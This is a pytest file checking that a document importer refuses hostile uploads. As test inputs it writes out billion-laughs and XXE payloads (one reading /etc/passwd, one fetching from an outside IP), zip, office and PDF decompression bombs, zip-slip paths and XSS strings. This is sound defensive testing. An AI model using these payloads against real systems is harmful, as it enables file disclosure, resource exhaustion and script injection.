"""Fault 27: files made to exhaust, escape or mislead. Each is refused with a reason, or read in bounded memory."""

import gzip
import os
import tracemalloc
import zipfile

import pytest

from scanning.enums import ImportStatus
from scanning.formats.base import MAX_LINE
from scanning.formats.reasons import REASONS
from scanning.models import Document
from tests.scanning import samples
from tests.scanning.conftest import json_lines, rows

MB = 1024**2
BILLION = (
    '<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>{body}"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>{body}'
FEED = "<rss><channel><title>T</title><item><title>{entity}</title></item></channel></rss>"


def measured(work):
    tracemalloc.start()
    result = work()
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return result, peak


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (BILLION.format(root="rss", body=FEED.format(entity="&i;")), "xml_entities"),
        (OUTSIDE.format(root="rss", body=FEED.format(entity="&x;")), "xml_entities"),
        (
            '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>' + FEED.format(entity="a"),
            "xml_entities",
        ),
        ("<rss>" + "<a>" * 300 + "</a>" * 300 + "</rss>", "too_deep"),
        ("<rss><channel><item><title>A</title></channel></rss>", "xml_broken"),
        ("<rss><channel><title>Nothing</title></channel></rss>", "not_feed"),
        (
            "<rss><channel><item><title>" + "x" * (MAX_LINE + 10) + "</title></item></channel></rss>",
            "record_too_long",
        ),
        ('<rss><item a="' + "x" * (3 * MAX_LINE), "record_too_long"),
    ],
    ids=[
        "billion laughs",
        "external",
        "parameter",
        "deep",
        "broken",
        "no item",
        "long text",
        "long attribute",
    ],
)
def test_fault_27_hostile_xml_is_refused(read, content, code):
    (_key, _entries, faults), peak = measured(lambda: read(content, "x.xml"))
    assert [fault for _line, fault in faults] == [code]
    assert peak < 24 * MAX_LINE


def office_with(part: str, content: str, whole: bytes) -> bytes:
    """An office file with one part exchanged."""
    import io

    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return samples.zipped(parts | {part: content})


@pytest.mark.parametrize("attack", [BILLION, OUTSIDE])
@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "word/document.xml"])
def test_fault_27_entities_inside_office_files_are_refused_or_stay_unread(read, attack, part):
    entity = "&i;" if attack is BILLION else "&x;"
    if part.startswith("word"):
        whole = samples.docx(["A long enough paragraph about flow cells in homes."])
        body = f"<document><p><r><t>{entity} {'text ' * 20}</t></r></p></document>"
    else:
        whole = samples.xlsx([["Title", "Abstract"], ["Cells", "Text"]])
        body = f"<worksheet>{entity}</worksheet>"
    (_key, entries, faults), peak = measured(
        lambda: read(office_with(part, attack.format(root="x", body=body), whole))
    )
    assert entries == []
    assert faults[0][1] in ("xml_entities", "damaged_office")
    assert peak < 60 * MB


def test_fault_27_office_bombs_are_refused_before_unpacking(read, settings):
    settings.SCANNING_LIMITS = {"free_bytes": 16 * MB}
    zeros = b"0" * (32 * MB)
    for whole, part in (
        (samples.xlsx([["Title"], ["A"]]), "xl/worksheets/sheet1.xml"),
        (samples.docx(["A"]), "word/document.xml"),
    ):
        bomb = office_with(part, zeros, whole)
        assert len(bomb) < MB
        (_key, _entries, faults), peak = measured(lambda bomb=bomb: read(bomb))
        assert faults == [(0, "expands_too_much")]
        assert peak < 8 * MB
    shared = office_with("xl/sharedStrings.xml", os.urandom(6 * MB), samples.xlsx([["Title"], ["A"]]))
    settings.SCANNING_LIMITS = {"shared_strings_bytes": 4 * MB}
    assert read(shared)[2] == [(0, "too_many_strings")]


def test_fault_27_a_zip_bomb_is_refused_in_bounded_memory(read, settings):
    settings.SCANNING_LIMITS = {"free_bytes": 8 * MB}
    bomb = samples.zipped({"corpus.jsonl": b" " * (64 * MB)})
    assert len(bomb) < MB
    (_key, _entries, faults), peak = measured(lambda: read(bomb))
    assert faults == [(0, "expands_too_much")]
    assert peak < 12 * MB


@pytest.mark.parametrize(
    "name",
    ["../../etc/cron.d/x.csv", "/etc/x.csv", "C:\\x.csv", "a/../../x.csv", "..\\x.csv", "..%c0%af/../x"],
)
def test_fault_27_zip_slip_names_are_refused(read, tmp_path, name):
    before = set(tmp_path.rglob("*"))
    assert read(samples.zipped({name: "title,abstract\nA,B\n"}))[2] == [(0, "unsafe_name")]
    assert {path.name for path in set(tmp_path.rglob("*")) - before} == {"uploaded.data"}


@pytest.mark.parametrize(
    ("files", "code"),
    [
        ({"a.csv": "title\nA\n", "b.csv": "title\nB\n"}, "archive"),
        ({"a.zip": samples.zipped({"b.csv": "title\nA\n"})}, "archive"),
        ({"a.gz": gzip.compress(b"title\nA\n")}, "archive"),
        ({}, "empty"),
        ({f"{n}.pdf": b"%PDF-" for n in range(2_001)}, "too_many_members"),
        ({"a.pdf": b"no pdf at all"}, "damaged_pdf"),
        ({"a.docx": b"PK no docx at all"}, "damaged_gzip"),
    ],
)
def test_archives_of_other_kinds_are_refused(read, files, code):
    assert read(samples.zipped(files, zipfile.ZIP_STORED))[2][0][1] == code


def test_a_locked_zip_is_refused(read):
    content = bytearray(samples.zipped({"a.csv": "title\nA\n"}))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    assert read(bytes(content))[2] == [(0, "locked")]


def test_fault_27_a_hostile_pdf_dies_alone(read, settings):
    import zlib

    packed = zlib.compress(zlib.compress(b"0" * (120 * MB)))
    bomb = (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n"
        b"4 0 obj\n<< /Filter [/FlateDecode /FlateDecode] /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\ntrailer << /Size 5 /Root 1 0 R >>\n%%EOF"
    )
    settings.SCANNING_LIMITS = {"pdf_memory_bytes": 200 * MB, "pdf_seconds": 20}
    (_key, entries, faults), peak = measured(lambda: read(bomb, "bomb.pdf"))
    assert entries == []
    assert faults[0][1] in ("pdf_too_costly", "damaged_pdf", "no_text_layer")
    assert peak < 16 * MB


def test_too_large_a_document_is_not_opened(read, settings):
    settings.SCANNING_LIMITS = {"document_bytes": 500}
    assert read(samples.pdf("Some text about flow cells and their use."))[2] == [(0, "too_large")]


def test_every_reason_has_words():
    import re
    from pathlib import Path

    source = "\n".join(path.read_text() for path in Path("scanning/formats").rglob("*.py"))
    used = set(re.findall(r'Fault\([^()"]*?"([a-z_]+)"[,)]', source)) | set(
        re.findall(r'_Unusable\("([a-z_]+)"', source)
    )
    assert len(used) > 20
    assert used <= set(REASONS)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "name"),
    [
        (json_lines(rows(1200)) + b'{"title": "caf\xe9 au lait"}\n', "a.jsonl"),
        (json_lines(rows(1200)) + b"\xff\xfe\x00", "a.jsonl"),
        (BILLION.format(root="rss", body=FEED.format(entity="&i;")).encode(), "a.xml"),
        (samples.zipped({"../a.csv": "title\nA\n"}), "a.zip"),
        (
            samples.zipped(
                {"a.pdf": samples.pdf("A report on flow cells in forty homes."), "b.pdf": b"%PDF-"}
            ),
            "a.zip",
        ),
    ],
)
def test_fault_27_of_a_bad_file_nothing_is_imported(upload, corpus, content, name):
    received = upload(content, name)
    assert received.status == ImportStatus.REFUSED
    assert received.errors
    assert all(fault["code"] in REASONS for fault in received.errors)
    assert not Document.objects.filter(corpus=corpus).exists()


@pytest.mark.django_db
def test_a_chosen_format_that_does_not_fit_is_refused(upload):
    received = upload(samples.xlsx([["Title"], ["A"]]), "a.xlsx", format="csv")
    assert [fault["code"] for fault in received.errors] == ["wrong_format"]


@pytest.mark.django_db
@pytest.mark.parametrize("form", ["rss", "bibtex", "docx", "xlsx"])
def test_fault_25_scripts_in_any_format_are_inert_text(upload, form):
    hostile = "<script>alert(1)</script>Cells<img src=x onerror=alert(1)> of a longer kind for every home"
    escaped = hostile.replace("<", "&lt;").replace(">", "&gt;")
    content = {
        "rss": FEED.format(entity=escaped),
        "bibtex": f"@article{{a, title = {{{hostile}}}, abstract = {{{hostile}}}}}\n",
        "docx": samples.docx([hostile, hostile]),
        "xlsx": samples.xlsx([["Title", "Abstract"], [hostile, hostile]]),
    }[form]
    received = upload(content if isinstance(content, bytes) else content.encode(), f"a.{form}")
    document = Document.objects.get(source_file=received)
    assert "Cells" in document.title
    assert "<" not in document.title + document.abstract
    assert "alert" not in document.title + document.abstract


@pytest.mark.django_db
def test_fault_27_what_an_import_holds_is_a_batch_and_not_the_file(upload, corpus, monkeypatch):
    from foundation.services import jobs
    from scanning.services import imports

    monkeypatch.setattr(imports, "BATCH", 5)
    words = "perovskite solar cells and flow batteries " * 2_000
    documents = [
        {"id": str(n), "title": f"Report number {n}", "abstract": f"{n} {words}"} for n in range(100)
    ]
    received = upload(documents, run=False)
    assert received.size > 8_000_000
    _nothing, peak = measured(lambda: jobs.run(received.job_id))
    received.refresh_from_db()
    assert (received.status, received.n_new) == (ImportStatus.IMPORTED, 100)
    assert peak < received.size * 0.8
